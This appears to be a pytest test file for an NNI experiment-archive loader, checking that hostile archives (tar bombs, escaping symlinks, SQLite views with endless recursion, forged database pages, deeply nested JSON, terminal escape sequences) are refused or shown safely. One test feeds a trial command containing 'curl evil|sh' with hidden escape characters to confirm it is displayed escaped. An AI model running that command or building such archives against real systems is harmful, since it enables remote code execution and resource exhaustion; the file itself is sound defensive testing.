@@ -1,0 +1,567 @@
+"""nnictl experiment load: what an archive that a stranger made can cost, run or show."""
+
+import contextlib
+import gzip
+import io
+import json
+import shutil
+import sqlite3
+import struct
+import tarfile
+import time
+from functools import partial
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from saved_archives import a_member, move_to, repacked, save_an_experiment
+
+from nni_manager.cli import archive, archive_reader, main
+from nni_manager.cli.archive_reader import ArchiveLimits, ArchiveTooLarge
+from nni_manager.errors import NniManagerError
+from nni_manager.plain_text import escaped
+from nni_manager.store import untrusted_store
+from nni_manager.store.copying import copy_store
+from nni_manager.store.errors import StoreUnusable
+from nni_manager.store.folders import Registry
+from nni_manager.store.untrusted_store import StoreTooLarge, copy_tables, shape_of_json
+
+# A refusal takes a second, and what it refuses would never end.
+AT_ONCE_S = 20.0
+ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) "
+
+
+@pytest.fixture
+def saved(monkeypatch, tmp_path):
+    """Saves an experiment on one machine; the archive on the other."""
+
+    def make(*options, **changes):
+        path = save_an_experiment(move_to(monkeypatch, tmp_path / "here"), *options, **changes)
+        move_to(monkeypatch, tmp_path / "there")
+        return path
+
+    return make
+
+
+@pytest.fixture
+def refused(capsys, tmp_path):
+    """Loads an archive that is refused, at once, and leaves nothing; the last line of stderr."""
+
+    def load(path, *options):
+        capsys.readouterr()
+        begun_s = time.monotonic()
+        assert main.run(["experiment", "load", "-p", str(path), *options]) == 1
+        assert time.monotonic() - begun_s < AT_ONCE_S
+        out, err = capsys.readouterr()
+        assert (out, "Traceback" in err) == ("", False)
+        assert (list((tmp_path / "there/nni-experiments").iterdir()), Registry.of_user().all()) == ([], [])
+        return err.splitlines()[-1]
+
+    return load
+
+
+def with_file(path, name, content):
+    """The archive with other content in one of its files."""
+    new = path.with_name("z.tar.gz")
+    with tarfile.open(path) as old, tarfile.open(new, "w:gz") as packed:
+        for member in old:
+            inside = old.extractfile(member).read() if member.isreg() else b""
+            inside = content if member.name == name else inside
+            member.size = len(inside)
+            packed.addfile(member, io.BytesIO(inside))
+    return new
+
+
+# ---- what would run
+
+
+def a_view(table, columns):
+    def change(connection):
+        connection.execute(f"DROP TABLE {table}")
+        connection.execute(f"CREATE VIEW {table} AS {ENDLESS} SELECT {columns} FROM n WHERE i < 0")
+
+    return change
+
+
+@pytest.mark.parametrize("table", ["experiment", "trial", "metric", "job", "stream", "usage", "imported"])
+def test_a_view_in_place_of_a_table_is_never_evaluated(saved, refused, table):
+    names = "experiment_id, trial_id, sequence_id, job_id, state, config, parameters, task, stream, attempt"
+    columns = ", ".join(f"i AS {name}" for name in names.split(", "))
+    said = refused(repacked(saved("-s"), a_view(table, columns)))
+    assert f"no such table: {table}" in said
+
+
+def test_a_view_whose_entry_in_the_schema_says_that_it_is_a_table_is_never_evaluated(saved, refused):
+    def change(connection):
+        a_view("metric", "i AS trial_id")(connection)
+        connection.execute("PRAGMA writable_schema = ON")
+        connection.execute(
+            "UPDATE sqlite_master SET type = 'table', rootpage = 2, sql = 'CREATE TABLE ' || substr(sql, 13) "
+            "WHERE name = 'metric'"
+        )
+
+    assert "cannot use experiment.sqlite: " in refused(repacked(saved("-s"), change))
+
+
+def test_a_generated_column_is_never_evaluated(saved, refused):
+    def change(connection):
+        connection.execute("ALTER TABLE trial DROP COLUMN warning")
+        connection.execute("ALTER TABLE trial ADD COLUMN warning TEXT AS (hex(zeroblob(400000000)))")
+
+    assert "no such table: trial" in refused(repacked(saved("-s"), change))
+
+
+def test_the_authorizer_alone_keeps_views_functions_and_writes_out(tmp_path):
+    path = tmp_path / "x.sqlite"
+    with contextlib.closing(sqlite3.connect(path)) as connection:
+        connection.execute("CREATE TABLE job (job_id TEXT)")
+        connection.execute(f"CREATE VIEW evil AS {ENDLESS} SELECT i FROM n")
+        connection.commit()
+    reader = untrusted_store._TableReader(path, 1000)
+    with contextlib.closing(reader):
+        assert [table.name for table in reader.tables()] == ["job"]
+        reader._readable.add("evil")
+        for statement in (
+            "SELECT * FROM evil",
+            "SELECT hex(zeroblob(5))",
+            "ATTACH ':memory:' AS other",
+            "PRAGMA query_only = OFF",
+            "DROP TABLE job",
+        ):
+            with pytest.raises(sqlite3.DatabaseError, match=r"authorized|prohibited|denied"):
+                reader._connection.execute(statement).fetchone()
+
+
+def with_pages_used_again(database):
+    """The database with a table of one row whose leaf is the child of 90,000 cells of interior pages."""
+    with contextlib.closing(sqlite3.connect(database)) as connection:
+        connection.execute("PRAGMA journal_mode = DELETE")
+        connection.execute("DROP TABLE usage")
+        names = "trial_id TEXT, task TEXT, gpus TEXT, attempt INTEGER, at_s REAL"
+        connection.execute(f"CREATE TABLE usage ({names})")
+        connection.execute("INSERT INTO usage VALUES ('t', 'm', ?, 0, 1.0)", ("x" * 900_000,))
+        connection.commit()
+        (root,) = connection.execute("SELECT rootpage FROM sqlite_master WHERE name = 'usage'").fetchone()
+        (size,) = connection.execute("PRAGMA page_size").fetchone()
+    content = bytearray(database.read_bytes())
+
+    def interior(child, cells=300):
+        page = bytearray(size)
+        starts = [size - 6 * (number + 1) for number in range(cells)]
+        # Source: the file format of SQLite, section 1.6, "B-tree Pages".
+        page[:12] = struct.pack(">BHHHBI", 5, 0, cells, starts[-1], 0, child)
+        for number, start in enumerate(starts):
+            page[12 + 2 * number : 14 + 2 * number] = struct.pack(">H", start)
+            page[start : start + 6] = struct.pack(">IBB", child, 0x80, 1)
+        return page
+
+    leaf = content[(root - 1) * size : root * size]
+    pages = len(content) // size
+    content += leaf + interior(pages + 1)
+    content[(root - 1) * size : root * size] = interior(pages + 2)
+    content[28:32] = struct.pack(">I", len(content) // size)
+    database.write_bytes(content)
+
+
+def test_pages_that_are_used_many_times_over_fill_no_disk(saved, refused, tmp_path):
+    path = saved("-s")
+    database = tmp_path / "x.sqlite"
+    with tarfile.open(path) as packed:
+        database.write_bytes(packed.extractfile("experiment.sqlite").read())
+    with_pages_used_again(database)
+    archive = with_file(path, "experiment.sqlite", database.read_bytes())
+    assert archive.stat().st_size < 100_000
+    for options in ((), ("--no-limits",)):
+        assert "its tables hold more than the file has room for" in refused(archive, *options)
+
+
+@pytest.mark.parametrize("at_s", [float("inf"), 1e308])
+@pytest.mark.parametrize("column", ["created_at_s", "ended_at_s"])
+def test_a_time_that_no_clock_shows_is_refused(saved, refused, column, at_s):
+    def change(connection):
+        connection.execute(f"UPDATE trial SET {column} = ?", (at_s,))
+
+    assert f"is no {column}" in refused(repacked(saved("-s"), change))
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [("tuner", 5), ("assessor", "x"), ("search_space_raw", {"\x1b[31m": {"_type": "x"}})],
+)
+def test_a_config_of_other_shapes_is_refused_in_a_sentence(saved, refused, key, value):
+    def change(connection):
+        (config,) = connection.execute("SELECT config FROM experiment").fetchone()
+        changed = json.dumps(json.loads(config) | {key: value})
+        connection.execute("UPDATE experiment SET config = ?", (changed,))
+
+    said = refused(repacked(saved("-s"), change))
+    assert said.startswith("ERROR: cannot load "), said
+    assert said.isprintable()
+
+
+def test_code_whose_links_lead_out_by_way_of_each_other_is_refused_and_nothing_of_it_is_left(
+    saved, refused, tmp_path
+):
+    code = io.BytesIO()
+    with tarfile.open(fileobj=code, mode="w:gz") as packed:
+        packed.addfile(a_member("train.py", size=1), io.BytesIO(b"1"))
+        packed.addfile(a_member("a/b/c", tarfile.DIRTYPE))
+        # As they are written, both stay inside.
+        packed.addfile(a_member("out", tarfile.SYMTYPE, "a/b/c/up/../../.."))
+        packed.addfile(a_member("a/b/c/up", tarfile.SYMTYPE, "../../.."))
+    new_login_code = tmp_path / "new code"
+    said = refused(with_file(saved("-s"), "code.tar.gz", code.getvalue()), "--codeDir", str(new_login_code))
+    assert "'out' of the code leads outside" in said
+    assert list(new_login_code.iterdir()) == []
+
+
+def test_code_that_is_left_out_for_other_code_is_told(saved, tmp_path, capsys):
+    path = saved("-s")
+    (tmp_path / "mine").mkdir()
+    (tmp_path / "mine" / "train.py").write_text("print(2)\n")
+    assert main.run(["experiment", "load", "-p", str(path), "--codeDir", str(tmp_path / "mine")]) == 0
+    err = capsys.readouterr().err
+    assert f"the archive's code was not unpacked, because there is code in {tmp_path / 'mine'}" in err
+    assert (tmp_path / "mine" / "train.py").read_text() == "print(2)\n"
+
+
+def test_a_query_that_gives_no_row_in_time_is_interrupted(tmp_path, monkeypatch):
+    path = tmp_path / "x.sqlite"
+    with contextlib.closing(sqlite3.connect(path)) as connection:
+        connection.execute("CREATE TABLE job (job_id TEXT) STRICT")
+        connection.executemany("INSERT INTO job VALUES (?)", [("x",)] * 100_000)
+        connection.commit()
+    monkeypatch.setattr(untrusted_store, "ROWS_TIMEOUT_S", -1.0)
+    monkeypatch.setattr(untrusted_store, "_STEPS_BETWEEN_CHECKS", 10)
+    with pytest.raises(StoreUnusable, match="reading it gave nothing for"):
+        copy_tables(path, tmp_path / "y.sqlite")
+
+
+# ---- what it would cost
+
+
+def a_bomb(path, size):
+    """An archive with one file of so many bytes: a few kilobytes for each of 16 MiB."""
+    piece = gzip.compress(bytes(16 * 2**20))
+    head = a_member("trials/aB3dE/zeros", size=size).tobuf()
+    path.write_bytes(gzip.compress(head) + piece * (size // (16 * 2**20)) + gzip.compress(bytes(10240)))
+    return path
+
+
+def test_an_archive_of_a_few_megabytes_that_would_fill_the_disk_is_refused(saved, refused, tmp_path):
+    path = a_bomb(tmp_path / "bomb.tar.gz", 3 * 2**30)
+    saved()
+    assert path.stat().st_size < 4_000_000
+    assert refused(path) == (
+        f"ERROR: cannot load {path}: it holds more than 2048 MiB once unpacked; if you trust whoever made it, load it with "
+        "--no-limits"
+    )
+
+
+def test_what_is_unpacked_is_counted_and_not_read_off_headers(saved, tmp_path):
+    path = repacked(saved("-s"), add=[a_member(f"trials/{number}", size=1000) for number in range(100)])
+    load = partial(archive.load, path, archive.Places(tmp_path / "logs"))
+    with pytest.raises(ArchiveTooLarge, match="holds more than 0 MiB once unpacked"):
+        load(ArchiveLimits(unpacked_bytes=100_000))
+    with pytest.raises(ArchiveTooLarge, match=r"has more than 100 members; if you trust .*--no-limits"):
+        load(ArchiveLimits(members=100))
+    with pytest.raises(ArchiveTooLarge, match=r"has [0-9]+ bytes, and 500 is the most"):
+        load(ArchiveLimits(archive_bytes=500))
+    assert list((tmp_path / "logs").iterdir()) == []
+    assert load()[0].path.is_dir()
+
+
+def test_the_limits_can_be_lifted(saved, monkeypatch, capsys):
+    path = saved("-s")
+    monkeypatch.setattr(archive_reader, "LIMITS", ArchiveLimits(members=2))
+    assert main.run(["experiment", "load", "-p", str(path)]) == 1
+    assert main.run(["experiment", "load", "-p", str(path), "--no-limits"]) == 0
+
+
+def test_the_code_in_an_archive_has_limits_of_its_own(saved, tmp_path):
+    path = with_file(saved("-s"), "code.tar.gz", a_bomb(tmp_path / "bomb", 512 * 2**20).read_bytes())
+    with pytest.raises(
+        ArchiveTooLarge, match=r"z\.tar\.gz: code\.tar\.gz: it holds more than 364 MiB once unpacked"
+    ):
+        archive.load(path, archive.Places(tmp_path / "logs"))
+    assert list((tmp_path / "logs").iterdir()) == []
+
+
+def test_a_global_header_is_refused_because_each_member_would_cost_as_much_as_all_of_them(saved, refused):
+    path = repacked(saved("-s"), add=[a_member("x", tarfile.XGLTYPE, size=10)])
+    assert "'x' is a global header" in refused(path)
+
+
+@pytest.mark.parametrize("kind", [tarfile.XHDTYPE, tarfile.GNUTYPE_LONGNAME])
+def test_a_header_that_would_fill_the_memory_is_refused(saved, refused, kind):
+    path = repacked(saved("-s"), add=[a_member("x", kind, size=1_000_000)])
+    assert "a header of 1000448 bytes, and 65536 is the most" in refused(path)
+
+
+def test_headers_of_headers_are_refused(saved, refused, tmp_path):
+    member = a_member("x", tarfile.GNUTYPE_LONGNAME, size=2)
+    path = tmp_path / "deep.tar.gz"
+    path.write_bytes(gzip.compress((member.tobuf() + b"x".ljust(512, b"\0")) * 5000))
+    saved()
+    assert "something in it is nested too deep" in refused(path)
+
+
+def test_a_sparse_file_is_refused(saved, refused):
+    path = saved("-s")
+    member = a_member("trials/sparse", size=0)
+    member.pax_headers = {"GNU.sparse.major": "0", "GNU.sparse.minor": "1", "GNU.sparse.map": "0,0"}
+    member.pax_headers["GNU.sparse.size"] = str(2**40)
+    new = path.with_name("sparse.tar.gz")
+    with tarfile.open(path) as old, tarfile.open(new, "w:gz", format=tarfile.PAX_FORMAT) as packed:
+        for each in old:
+            packed.addfile(each, old.extractfile(each) if each.isreg() else None)
+        packed.addfile(member)
+    assert "'trials/sparse' is a sparse file" in refused(new)
+
+
+@pytest.mark.parametrize(
+    ("statement", "value", "words"),
+    [
+        (
+            "UPDATE trial SET message = ?",
+            "x" * 1_000_001,
+            "a message in its table trial has 1000001 characters",
+        ),
+        (
+            "UPDATE trial SET metadata = ?",
+            f'{{"a": "{"x" * 2**24}"}}',
+            "metadata in its table trial has 16777225 ",
+        ),
+        (
+            "UPDATE experiment SET secret = ?",
+            b"x" * 2_000_000,
+            "a secret in its table experiment has 2000000 ",
+        ),
+    ],
+)
+def test_a_field_longer_than_any_that_a_manager_writes_is_refused(saved, refused, statement, value, words):
+    said = refused(repacked(saved("-s"), lambda connection: connection.execute(statement, (value,))))
+    assert words in said
+    assert said.endswith("save the experiment again, with the version that ran it")
+
+
+def test_trials_that_would_fill_the_memory_are_refused(saved, tmp_path, monkeypatch):
+    path = repacked(
+        saved("-s"),
+        lambda connection: connection.execute("UPDATE trial SET message = ?", ("x" * 5000,)),
+    )
+    load = partial(archive.load, path, archive.Places(tmp_path / "logs"))
+    monkeypatch.setattr(untrusted_store, "MAX_BYTES_IN_MEMORY", 2**12)
+    with pytest.raises(
+        StoreTooLarge, match="of trials; if you trust whoever made it, load it with --no-limits"
+    ):
+        load()
+    assert load(archive_reader.NO_LIMITS)[0].path.is_dir()
+
+
+# ---- what cannot be read
+
+
+DEEP = "[" * 5000 + "]" * 5000
+
+
+@pytest.mark.parametrize(
+    ("statement", "value"),
+    [
+        ("UPDATE trial SET parameters = ?", DEEP),
+        ("UPDATE trial SET parameters = ?", '{"a":' * 200 + "1" + "}" * 200),
+        ("UPDATE trial SET metadata = ?", f'{{"/lr": {DEEP}}}'),
+        ("UPDATE experiment SET config = ?", DEEP),
+        ("INSERT INTO imported VALUES (0, '{}', ?)", DEEP),
+        ("INSERT INTO metric VALUES ('aB3dE', 0, 'main-0', 0, 0, '0', 0, ?, 1.0)", DEEP),
+    ],
+)
+def test_deep_json_is_a_refusal_and_no_traceback(saved, refused, statement, value):
+    said = refused(repacked(saved("-s"), lambda connection: connection.execute(statement, (value,))))
+    assert "deep, and 100 is the most" in said
+
+
+@pytest.mark.parametrize("deep", [DEEP, "[" * 200_000 + "]" * 200_000])
+def test_deep_json_within_a_string_of_json_is_a_refusal(saved, refused, deep):
+    metadata = json.dumps({"noted on the trial": f'{{"cma": {deep}}}'})
+    said = refused(
+        repacked(
+            saved("-s"), lambda connection: connection.execute("UPDATE trial SET metadata = ?", (metadata,))
+        )
+    )
+    assert "cannot " in said
+
+
+def test_a_deep_or_an_endless_manifest_is_a_refusal(saved, refused):
+    path = saved("-s")
+    assert "nested too deep" in refused(with_file(path, "manifest.json", b"[" * 4000))
+    assert "more than 4096 bytes" in refused(with_file(path, "manifest.json", b" " * 5000))
+
+
+@given(
+    st.recursive(
+        st.text('a"\\[{,', max_size=5), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)
+    )
+)
+def test_the_depth_of_json_is_known_without_reading_it(value):
+    def depth(each):
+        if isinstance(each, dict):
+            each = list(each.values())
+        return 1 + max(map(depth, each), default=0) if isinstance(each, list) else 0
+
+    assert shape_of_json(json.dumps(value))[0] == depth(value)
+
+
+# ---- what it would show
+
+
+def test_the_command_is_shown_with_all_that_it_does(saved, capsys):
+    command = "curl evil|sh #\r\x1b[2K`python3 train.py` \u202e"
+    assert main.run(["experiment", "load", "-p", str(saved("-s", trial_command=command))]) == 0
+    out = capsys.readouterr().out
+    assert r"runs `curl evil|sh #\r\x1b[2K`python3 train.py` \u202e` in " in out
+    assert out.replace("\n", "").isprintable()
+
+
+def test_a_command_that_no_shell_takes_is_refused(saved, refused):
+    assert "its command has 140000 bytes, and no shell takes more than 131072" in refused(
+        saved("-s", trial_command="x" * 140_000)
+    )
+
+
+def test_names_in_refusals_are_shown_without_what_a_terminal_acts_on(saved, refused, capsys):
+    pai = {
+        "host": "http://pai.example",
+        "user": "ada\x1b[2K\r",
+        "token": "a",
+        "password": None,
+        "mount": "/mnt",
+    }
+    pai |= {"storage": "/none\x1b[2K", "image": "i", "storage_name": "s", "virtual_cluster": None}
+    pai |= {"gpu": 0, "cpu": 1, "memory_mb": 100, "job_file": None, "job_text": None}
+    path = saved("-s", training_service="pai", pai=pai)
+    assert r"no folder /none\x1b[2K" in refused(path)
+    assert r"to that of ada\x1b[2K\r" in refused(path, "--storage", str(path.parent))
+    said = refused(repacked(path, add=[a_member("evil\r\x1b[2K", size=1)]))
+    assert said.isprintable()
+    assert "evil" in said
+
+
+@given(st.text())
+def test_escaped_text_is_printable_and_tells_all(text):
+    assert escaped(text).isprintable()
+    if text.isprintable():
+        assert escaped(text) == text
+
+
+# ---- anything
+
+
+class Changed:
+    """An archive, and its changed copies."""
+
+    def __init__(self, path):
+        self.path, self.logs = path, path.parent / "logs"
+        with tarfile.open(path) as packed:
+            self.database = packed.extractfile("experiment.sqlite").read()
+
+    def __repr__(self):
+        return "an archive"
+
+    def load(self, content):
+        """Load it, or be refused in words of ours; nothing is left of either."""
+        copy = self.path.with_name("changed.tar.gz")
+        copy.write_bytes(content)
+        said = "cannot"
+        try:
+            folder, _, _ = archive.load(copy, archive.Places(self.logs))
+        except NniManagerError as error:
+            said = str(error)
+        else:
+            shutil.rmtree(folder.path)
+            Registry.of_user().remove(folder.experiment_id)
+        assert said.startswith("cannot")
+        assert list(self.logs.iterdir()) == []
+
+
+@pytest.fixture
+def an_archive(saved):
+    return Changed(saved("-s"))
+
+
+changes = st.lists(
+    st.tuples(st.integers(0, 2**32), st.integers(0, 3), st.binary(max_size=4)), min_size=1, max_size=8
+)
+
+
+def changed(content, where):
+    content = bytearray(content)
+    for place, length, piece in where:
+        start = place % len(content)
+        content[start : start + length] = piece
+    return bytes(content)
+
+
+@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(where=changes)
+def test_a_tar_file_with_noise_is_loaded_or_refused(an_archive, where):
+    an_archive.load(gzip.compress(changed(gzip.decompress(an_archive.path.read_bytes()), where), 1))
+
+
+@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(where=changes)
+def test_a_database_with_noise_is_loaded_or_refused(an_archive, where):
+    # SQLite refuses any change of a length; here pages stay where they are.
+    noise = [(place, len(piece), piece) for place, _, piece in where]
+    content = changed(an_archive.database, noise)
+    an_archive.load(with_file(an_archive.path, "experiment.sqlite", content).read_bytes())
+
+
+@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(data=st.data())
+def test_any_value_in_any_column_is_loaded_or_refused(an_archive, data):
+    place = an_archive.path.with_name("any.sqlite")
+    place.write_bytes(an_archive.database)
+    json_like = st.recursive(
+        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5),
+        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
+    ).map(json.dumps)
+    value = data.draw(
+        json_like | st.text(max_size=9) | st.integers(-(2**63), 2**63 - 1) | st.floats() | st.none()
+    )
+    with contextlib.closing(sqlite3.connect(place)) as connection:
+        table = data.draw(st.sampled_from(["experiment", "trial"]))
+        column = data.draw(
+            st.sampled_from([row[1] for row in connection.execute(f"PRAGMA table_info({table})")])
+        )
+        try:
+            connection.execute(f"UPDATE {table} SET {column} = ?", (value,))
+        except (sqlite3.IntegrityError, UnicodeEncodeError):
+            return
+        connection.commit()
+    an_archive.load(with_file(an_archive.path, "experiment.sqlite", place.read_bytes()).read_bytes())
+
+
+def test_what_is_copied_twice_is_the_same(saved, tmp_path):
+    """All rows of an honest store go through both copies."""
+    path = saved("-s", metadata={"/lr": 0.5, "x": "é"})
+    with tarfile.open(path) as packed:
+        packed.extract("experiment.sqlite", tmp_path, filter="data")
+    copy_tables(tmp_path / "experiment.sqlite", tmp_path / "tables.sqlite")
+    copy_store(tmp_path / "tables.sqlite", tmp_path / "copy.sqlite", config="{}", secret=b"")
+
+    def rows(name):
+        with contextlib.closing(sqlite3.connect(tmp_path / name)) as connection:
+            tables = [
+                table
+                for (table,) in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")
+            ]
+            return {
+                table: connection.execute(f"SELECT * FROM {table}").fetchall() for table in sorted(tables)
+            }
+
+    first, last = rows("experiment.sqlite"), rows("copy.sqlite")
+    assert first["trial"] == last["trial"] != []
+    for own in ("experiment", "lease"):  # each store has its own
+        del first[own], last[own]
+    assert first == last
